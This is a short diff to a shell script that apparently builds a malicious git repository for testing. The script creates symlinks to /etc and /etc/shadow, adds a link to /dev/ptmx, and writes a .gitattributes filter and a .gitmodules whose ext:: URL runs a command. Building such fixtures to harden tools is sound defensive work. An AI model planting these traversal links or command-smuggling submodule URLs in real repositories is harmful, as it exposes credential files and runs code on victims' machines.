@@ -8,6 +8,8 @@ cd /root/attack/tree
 git checkout -q -b hostile
 ln -s /etc etc
 ln -s ../../../../../../../../etc/shadow shadow
+mkdir held
+ln -s /dev/ptmx held/passwd
 printf '* filter=plant text eol=crlf ident export-subst\nREADME.md export-ignore\n' >.gitattributes
 printf '[submodule "sub"]\n\tpath = sub\n\turl = ext::touch /tmp/planted\n' >.gitmodules
 git add .
